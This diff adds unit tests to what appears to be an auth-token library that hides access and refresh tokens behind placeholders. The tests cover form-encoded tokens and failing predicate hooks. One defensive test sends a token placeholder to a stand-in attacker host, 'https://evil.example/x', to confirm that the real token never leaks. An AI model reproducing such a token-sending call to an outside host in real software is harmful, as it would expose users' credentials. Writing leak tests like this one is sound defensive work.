@@ -71,3 +71,73 @@ describe('servers that send a new token with every answer', () => {
     expect(core.stored()).toMatchObject({ accessToken: 'token-1' })
   })
 })
+
+describe('tokens with signs that URLs and forms encode', () => {
+  const [access, refresh] = ['abc+/def==ghijklmno~!*', 'r+/=0123456789(abc)']
+  const readTokens: Options['readTokens'] = async response => {
+    const fields = new URLSearchParams(await response.text())
+    return { accessToken: fields.get('access_token'), refreshToken: fields.get('refresh_token') }
+  }
+  const form = String(new URLSearchParams({ access_token: access, refresh_token: refresh, scope: 'a b' }))
+  const lower = form.replace(/%\w\w/g, code => code.toLowerCase())
+
+  it.each([
+    ['a form', form],
+    ['a form in small letters', lower],
+    ['as they are', `access_token=${encodeURIComponent(access)}&${form.split('&')[1]}&scope=a+b`],
+  ])('are hidden in %s, wherever it stands (W45)', async (_, text) => {
+    const headers = { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Next': `/done#${text}` }
+    const core = openCore({ readTokens }, () => received(new Response(text, { headers })))
+    const response = await core.post('/auth/login')
+    const seen = [await response.text(), response.headers.get('X-Next')?.slice(6) ?? '']
+    expect(await core.state()).toMatchObject({ status: 'authenticated' })
+    for (const part of seen) {
+      const fields = Object.fromEntries(new URLSearchParams(part))
+      expect(fields).toEqual({
+        access_token: expect.stringContaining('refresh-worker-access-token'),
+        refresh_token: expect.stringContaining('refresh-worker-refresh-token'),
+        scope: 'a b',
+      })
+    }
+  })
+})
+
+describe('a predicate that fails', () => {
+  const TOKEN = 'first-access-token'
+  const failing: Partial<Record<'apiUrls' | 'loginUrl' | 'tokensInBodies', never>>[] = [
+    { loginUrl: ['/auth/login', async () => true] as never },
+    { apiUrls: ['/api/', async () => true] as never },
+    { tokensInBodies: [async () => Promise.reject(new Error('no'))] as never },
+    { apiUrls: ['/api/', () => ({})] as never },
+  ]
+
+  it.each(failing)('is named in inspect(), and counted: %o (W52)', async options => {
+    const core = openCore(options, () => jsonResponse({}))
+    await core.send('/else')
+    await core.send('/else', { method: 'POST' })
+    const [name] = Object.keys(options)
+    const { hookFailures } = await core.inspect()
+    expect(hookFailures).toEqual([
+      { hook: name, problem: expect.stringContaining(`a predicate in ${name}`), at: NOW, count: expect.any(Number) },
+    ])
+    expect(hookFailures[0]?.count).toBeGreaterThan(1)
+    expect(core.log.filter(line => line.includes('a predicate'))).toHaveLength(1)
+  })
+
+  it('by a promise in loginUrl has not kept a login from being one (W52)', async () => {
+    const core = openCore({ loginUrl: (async () => true) as never, refreshTokenUrl: '/r' }, () =>
+      received(jsonResponse({ access_token: TOKEN })),
+    )
+    expect(await (await core.post('/x')).text()).not.toContain(TOKEN)
+    expect(await core.state()).toMatchObject({ status: 'authenticated' })
+  })
+
+  it('by a promise in loginUrl brings no token to another server (W52)', async () => {
+    const core = openCore({ loginUrl: ['/auth/login', (async () => true) as never] }, sent =>
+      isLogin(sent) ? jsonResponse({ access_token: TOKEN }) : received(new Response(sent.body), { type: 'cors' }),
+    )
+    const { access_token: placeholder } = await (await core.post('/auth/login')).json()
+    await core.post('https://evil.example/x', { placeholder }).catch(() => undefined)
+    expect(core.sent.map(({ body }) => body).join()).not.toContain(TOKEN)
+  })
+})
